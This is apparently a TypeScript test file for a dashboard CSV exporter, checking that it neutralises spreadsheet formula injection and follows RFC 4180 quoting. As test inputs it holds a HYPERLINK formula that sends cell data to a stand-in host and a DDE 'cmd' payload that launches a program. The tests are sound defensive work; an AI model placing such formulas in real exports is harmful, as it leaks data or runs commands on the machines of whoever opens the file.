import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { guardFormula, toCsv } from '../../dashboards/export/csv.ts';
import type { ResultTable } from '../../dashboards/export/columns.ts';

const lines = (csv: string) => csv.split('\r\n');
const parse = (csv: string) => Papa.parse<string[]>(csv, { skipEmptyLines: false }).data;

describe('formula injection', () => {
  const payloads: [string, string][] = [
    ['=HYPERLINK("http://evil.example/?"&A1,"Click")', `"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"`],
    ['+1', "'+1"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', `"'\r=1+1"`],
    ['=cmd|\' /C calc\'!A0', "'=cmd|' /C calc'!A0"],
    ['-', "'-"],
  ];

  it.each(payloads)('prefixes %j in a text column', (payload, expected) => {
    const csv = toCsv({ columns: ['payer_name'], rows: [[payload]] });
    expect(csv).toBe(`payer_name\r\n${expected}\r\n`);
    // Read back, the cell is the payload behind a quote: text, not a formula.
    expect(parse(csv)[1]).toEqual([`'${payload}`]);
  });

  it('leaves harmless text alone', () => {
    for (const text of ['Blue Cross', '12-3', 'a=b', ' =not first', "'quoted", 'Núñez']) expect(guardFormula(text)).toBe(text);
  });

  it('does not prefix numbers in numeric columns, decided by the column type', () => {
    const table: ResultTable = {
      columns: ['amount_usd', 'visits_n', 'variance_pct', 'lag_days', 'memo'],
      rows: [['-12.50', -3, -0.125, -1.5, '-12.50']],
    };
    // The same text "-12.50" is a number in amount_usd and text (guarded) in memo.
    expect(lines(toCsv(table))[1]).toBe("-12.50,-3,-0.125,-1.5,'-12.50");
  });

  it('guards the header too', () => {
    expect(lines(toCsv({ columns: ['=evil', 'ok'], rows: [] }))[0]).toBe("'=evil,ok");
  });

  it('treats a number given to a text column as text', () => {
    expect(lines(toCsv({ columns: ['provider_id'], rows: [[-5]] }))[1]).toBe("'-5");
  });
});

describe('RFC 4180', () => {
  const table: ResultTable = {
    columns: ['payer_name', 'charges_usd'],
    rows: [
      ['Smith, Jones & Co', '1234.50'],
      ['The "Best" Plan', '0.00'],
      ['two\nlines', '-0.05'],
      ['crlf\r\ninside', '10'],
      [' padded ', null],
      [null, '7.1'],
    ],
  };
  const csv = toCsv(table);

  it('quotes commas, quotes, newlines and edge spaces; doubles quotes; ends lines with CRLF', () => {
    expect(csv).toBe(
      'payer_name,charges_usd\r\n' +
        '"Smith, Jones & Co",1234.50\r\n' +
        '"The ""Best"" Plan",0.00\r\n' +
        '"two\nlines",-0.05\r\n' +
        '"crlf\r\ninside",10.00\r\n' +
        '" padded ",\r\n' +
        ',7.10\r\n',
    );
  });

  it('reads back to the same cells, money with exactly two decimals', () => {
    expect(parse(csv).slice(0, 7)).toEqual([
      ['payer_name', 'charges_usd'],
      ['Smith, Jones & Co', '1234.50'],
      ['The "Best" Plan', '0.00'],
      ['two\nlines', '-0.05'],
      ['crlf\r\ninside', '10.00'],
      [' padded ', ''],
      ['', '7.10'],
    ]);
  });

  it('writes a UTF-8 byte-order mark only when asked', () => {
    const t: ResultTable = { columns: ['provider_name'], rows: [['Núñez']] };
    expect(toCsv(t, { bom: true })).toBe('\uFEFFprovider_name\r\nNúñez\r\n');
    expect(toCsv(t).charCodeAt(0)).toBe('p'.charCodeAt(0));
    expect(Buffer.from(toCsv(t, { bom: true }), 'utf8').subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
  });

  it('writes dates, instants, counts, booleans and bigints plainly; a lone null as ""', () => {
    const t: ResultTable = {
      columns: ['service_date', 'booked_at', 'claims_n', 'flag'],
      rows: [[new Date('2024-02-29T00:00:00Z'), new Date('2024-03-01T10:00:00Z'), 12345678901234n, true]],
    };
    expect(lines(toCsv(t))[1]).toBe('2024-02-29,2024-03-01T10:00:00.000Z,12345678901234,true');
    expect(toCsv({ columns: ['visits_n'], rows: [[null], [3]] })).toBe('visits_n\r\n""\r\n3\r\n');
  });

  it('writes only the header for an empty result', () => {
    expect(toCsv({ columns: ['a', 'b_usd'], rows: [] })).toBe('a,b_usd\r\n');
  });
});
